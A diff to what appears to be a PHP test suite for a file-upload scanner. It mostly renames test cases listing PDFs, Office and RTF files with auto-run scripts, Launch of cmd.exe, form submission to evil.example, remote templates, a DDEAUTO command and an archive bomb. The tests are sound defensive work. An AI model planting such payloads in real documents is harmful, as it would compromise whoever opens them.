@@ -30,94 +30,94 @@ final class ActiveDocumentTest extends UploadTestCase {
 	public static function active(): array {
 		$zeros = static fn (): string => Samples::pdf_with_packed( str_repeat( '1 0 <</A/B>> ', 10000000 ) );
 		return array(
-			'a PDF that runs a script when opened'      => array(
+			'a PDF that runs a script when opened'     => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction' . self::SCRIPT ),
 				'active_document',
 			),
-			'a PDF with a script among its names'       => array(
+			'a PDF with a script among its names'      => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/Names<</JavaScript 5 0 R>>' ),
 				'active_document',
 			),
-			'a PDF whose script is written in escapes'  => array(
+			'a PDF whose script is written in escapes' => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction<</S/#4a#61vaScr#69pt/JS 5 0 R>>' ),
 				'active_document',
 			),
-			'a PDF with a script in a packed object'    => array(
+			'a PDF with a script in a packed object'   => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ),
 				'active_document',
 			),
-			'the same behind 300 kB of its page'        => array(
+			'a packed script after 1 MB of page data'  => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, '', random_bytes( 1048576 - 400 ) ),
 				'active_document',
 			),
-			'a packed object with a long dictionary'    => array(
+			'a packed object with a long dictionary'   => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, str_repeat( ' ', 20000 ) ),
 				'active_document',
 			),
-			'a packed object of another name'           => array(
+			'a packed object with an escaped name'     => array(
 				'a.pdf',
 				static fn (): string => str_replace( '/Type/ObjStm', '/Type/#4fbjStm', Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
 				'active_document',
 			),
-			'a script far into a packed object'         => array(
+			'a script far into a packed object'        => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( bin2hex( random_bytes( 300000 ) ) . self::SCRIPT ),
 				'active_document',
 			),
-			'a PDF that starts a program'               => array(
+			'a PDF that starts a program'              => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction<</S/Launch/F(cmd.exe)>>' ),
 				'active_document',
 			),
-			'a PDF with a file inside'                  => array(
+			'a PDF with a file inside'                 => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>' ),
 				'active_document',
 			),
-			'a PDF with a file pinned to a page'        => array(
+			'a PDF with a file attached to a page'     => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/X<</Subtype/FileAttachment/FS 5 0 R>>' ),
 				'active_document',
 			),
-			'a PDF with a film that is a program'       => array(
+			'a PDF with rich media'                    => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/X<</Subtype/RichMedia>>' ),
 				'active_document',
 			),
-			'a PDF with a form that is a program'       => array(
+			'a PDF with an XFA form'                   => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/AcroForm<</XFA[(config)5 0 R]>>' ),
 				'active_document',
 			),
-			'a PDF that sends what is typed'            => array(
+			'a PDF that submits its form data'         => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' ),
 				'active_document',
 			),
-			'a PDF that opens a page of the web'        => array(
+			'a PDF that opens a website'               => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction<</S/URI/URI(http://evil.example)>>' ),
 				'active_document',
 			),
-			'a packed object that nobody can read'      => array(
+			'a packed object with two filters'         => array(
 				'a.pdf',
 				static fn (): string =>
 					str_replace( '/FlateDecode', '[/ASCIIHexDecode/FlateDecode]', Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
 				'locked_document',
 			),
-			'a packed object that is enciphered'        => array(
+			'a packed object that cannot be unpacked'  => array(
 				'a.pdf',
 				static fn (): string =>
 					str_replace( "stream\nx", "stream\n" . chr( 7 ), Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
 				'locked_document',
 			),
-			'a packed object in differences'            => array(
+			'a packed object with a predictor'         => array(
 				'a.pdf',
 				static fn (): string => str_replace(
 					'/FlateDecode',
@@ -126,13 +126,13 @@ final class ActiveDocumentTest extends UploadTestCase {
 				),
 				'locked_document',
 			),
-			'a filter behind a comment'                 => array(
+			'two filters behind a comment'             => array(
 				'a.pdf',
 				static fn (): string =>
 					str_replace( '/FlateDecode', "%\n[/ASCIIHexDecode/FlateDecode]", Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
 				'locked_document',
 			),
-			'two filters of which one counts'           => array(
+			'a second entry with two filters'          => array(
 				'a.pdf',
 				static fn (): string => str_replace(
 					'/FlateDecode',
@@ -141,23 +141,23 @@ final class ActiveDocumentTest extends UploadTestCase {
 				),
 				'locked_document',
 			),
-			'differences told elsewhere'                => array(
+			'a predictor in another object'            => array(
 				'a.pdf',
 				static fn (): string =>
 					str_replace( '/FlateDecode', '/FlateDecode/DecodeParms 5 0 R', Samples::pdf_with_packed( '7 0 ' . self::SCRIPT ) ),
 				'locked_document',
 			),
-			'another object’s head in a text'           => array(
+			'another object header in a string'        => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, '/Y(9 0 obj<<)' ),
 				'active_document',
 			),
-			'another object’s head in a comment'        => array(
+			'another object header in a comment'       => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 ' . self::SCRIPT, " %9 0 obj<<\n" ),
 				'active_document',
 			),
-			'the same with a filter nobody reads'       => array(
+			'an object header and an LZW filter'       => array(
 				'a.pdf',
 				static fn (): string => str_replace(
 					'/FlateDecode',
@@ -166,23 +166,23 @@ final class ActiveDocumentTest extends UploadTestCase {
 				),
 				'locked_document',
 			),
-			'a form behind a comment'                   => array(
+			'an XFA form behind a comment'             => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( "/AcroForm<</XFA%\n[(config)5 0 R]>>" ),
 				'active_document',
 			),
-			'a packed object of 130 MB'                 => array( 'a.pdf', $zeros, 'archive_bomb' ),
-			'Word with macros named docx'               => array(
+			'a packed object of 130 MB'                => array( 'a.pdf', $zeros, 'archive_bomb' ),
+			'Word with macros named docx'              => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array( 'word/vbaProject.bin' => 'x' ) ),
 				'active_document',
 			),
-			'macros in a folder of another name'        => array(
+			'macros in a folder of another name'       => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array( 'Word/VBAPROJECT.BIN' => 'x' ) ),
 				'active_document',
 			),
-			'Word that says it has macros'              => array(
+			'Word that declares macros'                => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'[Content_Types].xml' => '<Types>'
@@ -191,7 +191,7 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'the same in UTF-16'                        => array(
+			'Word that declares macros in UTF-16'      => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'[Content_Types].xml' => "\xFF\xFE"
@@ -199,12 +199,12 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'Word with a control'                       => array(
+			'Word with an ActiveX control'             => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array( 'word/activeX/activeX1.xml' => '<ax/>' ) ),
 				'active_document',
 			),
-			'Word that fetches its template in UTF-16'  => array(
+			'Word with a template in UTF-16'           => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'word/_rels/settings.xml.rels' => "\xFF\xFE" . mb_convert_encoding(
@@ -216,7 +216,7 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'Word that fetches its template'            => array(
+			'Word with a remote template'              => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'word/_rels/settings.xml.rels' => '<Relationships>'
@@ -226,7 +226,7 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'the same in escapes'                       => array(
+			'Word with a remote template in escapes'   => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'word/_rels/settings.xml.rels' => '<Relationships>'
@@ -235,13 +235,13 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'Word with a program packed as an object'   => array(
+			'Word with a program packed as an object'  => array(
 				'a.docx',
 				static fn (): string =>
 					Samples::docx( array( 'word/embeddings/oleObject1.bin' => self::doc( "\1\0" . self::utf16( 'Ole10Native' ) ) ) ),
 				'active_document',
 			),
-			'Excel with macros named xlsx'              => array(
+			'Excel with macros named xlsx'             => array(
 				'a.xlsx',
 				static fn (): string => Samples::zip( array(
 					'[Content_Types].xml' => '<Types/>',
@@ -251,29 +251,29 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'a template of Excel that is no zip'        => array(
+			'an Excel template that is no zip'         => array(
 				'a.xltx',
 				static fn (): string => 'MZ' . random_bytes( 300 ),
 				'content_mismatch',
 			),
-			'an old add-in of Excel with macros'        => array(
+			'an old Excel add-in with macros'          => array(
 				'a.xla',
 				static fn (): string => self::doc( self::utf16( '_VBA_PROJECT' ) ),
 				'active_document',
 			),
-			'an old show that is a zip'                 => array( 'a.pps', static fn (): string => Samples::docx(), 'content_mismatch' ),
-			'a database of Access'                      => array(
+			'an old slide show that is a zip'          => array( 'a.pps', static fn (): string => Samples::docx(), 'content_mismatch' ),
+			'an Access database'                       => array(
 				'a.mdb',
 				static fn (): string => "\0\1\0\0Standard Jet DB\0" . str_repeat( "\0", 300 ),
 				'forbidden_type',
 			),
-			'a database of LibreOffice'                 => array(
+			'a LibreOffice database'                   => array(
 				'a.odb',
 				static fn (): string =>
 					Samples::zip( array( 'mimetype' => 'application/vnd.oasis.opendocument.database', 'content.xml' => '<office/>' ) ),
 				'forbidden_type',
 			),
-			'OpenDocument with macros'                  => array(
+			'OpenDocument with macros'                 => array(
 				'a.odt',
 				static fn (): string => Samples::zip( array(
 					'mimetype'                   => 'application/vnd.oasis.opendocument.text',
@@ -282,7 +282,7 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'OpenDocument with a script'                => array(
+			'OpenDocument with a script'               => array(
 				'a.odt',
 				static fn (): string => Samples::zip( array(
 					'mimetype'            => 'application/vnd.oasis.opendocument.text',
@@ -291,32 +291,32 @@ final class ActiveDocumentTest extends UploadTestCase {
 				) ),
 				'active_document',
 			),
-			'old Word with macros'                      => array(
+			'old Word with macros'                     => array(
 				'a.doc',
 				static fn (): string => self::doc( self::utf16( '_VBA_PROJECT' ) ),
 				'active_document',
 			),
-			'old Word with a program as an object'      => array(
+			'old Word with a program as an object'     => array(
 				'a.doc',
 				static fn (): string => self::doc( "\1\0" . self::utf16( 'Ole10Native' ) ),
 				'active_document',
 			),
-			'RTF with an object'                        => array(
+			'RTF with an object'                       => array(
 				'a.rtf',
 				static fn (): string => '{\rtf1\ansi{\object\objemb{\*\objdata 0105000002000000}}}',
 				'active_document',
 			),
-			'RTF with an object that updates itself'    => array(
+			'RTF with an object that updates itself'   => array(
 				'a.rtf',
 				static fn (): string => '{\rtf1' . str_repeat( ' ', 262140 ) . '{\*\objupdate 1}}',
 				'active_document',
 			),
-			'RTF that fetches its template'             => array(
+			'RTF with a remote template'               => array(
 				'a.rtf',
 				static fn (): string => '{\rtf1{\*\template https://evil.example/a.dotm}}',
 				'active_document',
 			),
-			'RTF that runs a command'                   => array(
+			'RTF that runs a command'                  => array(
 				'a.rtf',
 				static fn (): string => '{\rtf1{\field{\*\fldinst DDEAUTO cmd "/k calc"}}}',
 				'active_document',
@@ -337,40 +337,40 @@ final class ActiveDocumentTest extends UploadTestCase {
 	 */
 	public static function honest(): array {
 		return array(
-			'a PDF that opens at its first page'    => array(
+			'a PDF that opens at its first page'  => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction[3 0 R/XYZ null null 1]' ),
 			),
-			'a PDF that goes to a page'             => array(
+			'a PDF that goes to a page'           => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction<</S/GoTo/D[3 0 R/Fit]>>' ),
 			),
-			'a PDF that is printed when opened'     => array(
+			'a PDF that is printed when opened'   => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/OpenAction<</S/Named/N/Print>>' ),
 			),
-			'a PDF with packed objects'             => array(
+			'a PDF with packed objects'           => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 <</Type/Font/BaseFont/Helvetica>>' ),
 			),
-			'a PDF with links'                      => array(
+			'a PDF with links'                    => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/X<</Subtype/Link/A<</S/URI/URI(https://shop.example)>>>>' ),
 			),
-			'a PDF about JavaScript'                => array(
+			'a PDF about JavaScript'              => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf( '/Title(Learn JavaScript, Launch a shop, XFA and all)' ),
 			),
-			'a PDF with a page after its objects'   => array(
+			'a PDF with a page after its objects' => array(
 				'a.pdf',
 				static fn (): string =>
 					Samples::pdf_with_packed( '7 0 <</A/B>>' ) . "10 0 obj<</Length 9>>stream\n(% obj) Tj\nendstream endobj\n",
 			),
-			'a PDF with 20 MB of noise'             => array(
+			'a PDF with 20 MB of noise'           => array(
 				'a.pdf',
 				static fn (): string => Samples::pdf_with_packed( '7 0 <</A/B>>', '', random_bytes( 20000000 ) ),
 			),
-			'Word with a chart and a picture'       => array(
+			'Word with a chart and a picture'     => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'word/embeddings/Microsoft_Excel_Sheet.xlsx' => 'PK',
@@ -378,7 +378,7 @@ final class ActiveDocumentTest extends UploadTestCase {
 					'word/media/image1.png'                      => Samples::png(),
 				) ),
 			),
-			'Word with links'                       => array(
+			'Word with links'                     => array(
 				'a.docx',
 				static fn (): string => Samples::docx( array(
 					'word/_rels/document.xml.rels' => '<Relationships>'
@@ -387,7 +387,7 @@ final class ActiveDocumentTest extends UploadTestCase {
 						. '<Relationship Id="rId2" Type="http://x/attachedTemplate" Target="Normal.dotm"/></Relationships>',
 				) ),
 			),
-			'RTF with its own template'             => array(
+			'RTF with a local template'           => array(
 				'a.rtf',
 				static fn (): string =>
 					'{\rtf1\ansi{\*\template C:\\\\Office\\\\Normal.dot}{\field{\*\fldinst HYPERLINK "https://shop.example"}}\b Hello\b0 }',
